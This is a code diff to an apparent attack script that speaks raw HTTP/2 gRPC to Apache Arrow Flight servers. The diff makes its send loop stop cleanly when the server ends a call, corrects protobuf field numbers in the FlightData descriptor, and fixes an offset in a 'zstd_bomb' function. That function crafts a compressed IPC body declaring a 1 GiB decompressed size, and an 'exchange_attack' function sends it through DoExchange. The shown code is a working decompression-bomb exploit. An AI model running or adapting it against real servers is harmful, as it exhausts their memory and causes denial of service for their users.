@@ -174,12 +174,22 @@ class H2:
         self.conn.send_headers(sid, headers)
         return sid
 
+    def ended(self, sid):
+        """True once the call has its status, or its stream was reset."""
+        response = self.responses.get(sid, {})
+        return "grpc-status" in response or "reset" in response
+
     def send(self, sid, data, end=True):
+        """Sends `data`; False when the call ended first (the rest is not sent: the server
+        reads no more of it, so its flow-control window would never open)."""
         view = memoryview(data)
         while view:
+            if self.ended(sid):
+                return False
             window = min(self.conn.local_flow_control_window(sid), self.conn.max_outbound_frame_size)
             if window <= 0:
-                self.pump(1.0)
+                if not self.pump(1.0):
+                    return False
                 continue
             self.conn.send_data(sid, view[:window].tobytes())
             view = view[window:]
@@ -187,6 +197,7 @@ class H2:
         if end:
             self.conn.end_stream(sid)
         self.flush()
+        return True
 
     def pump(self, seconds):
         """Reads events for up to `seconds`; False once the server closed."""
@@ -458,7 +469,7 @@ def flight_data(header, body, path=None):
     """A FlightData message: the descriptor (a path) on the first, the IPC header and body."""
     out = b""
     if path is not None:
-        out += field(1, varint(1 << 3) + varint(1) + b"".join(field(2, p.encode()) for p in path))
+        out += field(1, varint(1 << 3) + varint(1) + b"".join(field(3, p.encode()) for p in path))
     out += field(2, header)
     if body:
         out += varint(1000 << 3 | 2) + varint(len(body)) + body
@@ -486,7 +497,7 @@ def zstd_bomb():
     body = (1 << 30).to_bytes(8, "little") + frame
     body += bytes(-len(body) % 8)
     header = patched(header, i64s(0, 16), i64s(0, len(body)))
-    header = patched(header, i64s(24), i64s(len(body)))
+    header = patched(header, i64s(16), i64s(len(body)))
     return [(schema, b""), (header, body)]
 
 
@@ -507,8 +518,10 @@ def exchange_attack(server, game, messages, results):
     sid = c.open_call(None, path=DO_EXCHANGE)
     try:
         for i, (header, body) in enumerate(messages):
-            c.send(sid, grpc_frame(flight_data(header, body, [game] if i == 0 else None)), end=i == len(messages) - 1)
-    except Exception:  # the server ended the call mid-send: its trailers tell why
+            data = grpc_frame(flight_data(header, body, [game] if i == 0 else None))
+            if not c.send(sid, data, end=i == len(messages) - 1):
+                break
+    except h2.exceptions.ProtocolError:  # the server ended the call mid-send: its trailers tell why
         pass
     results.append(c.wait_statuses([sid], 60)[sid])
     c.sock.close()
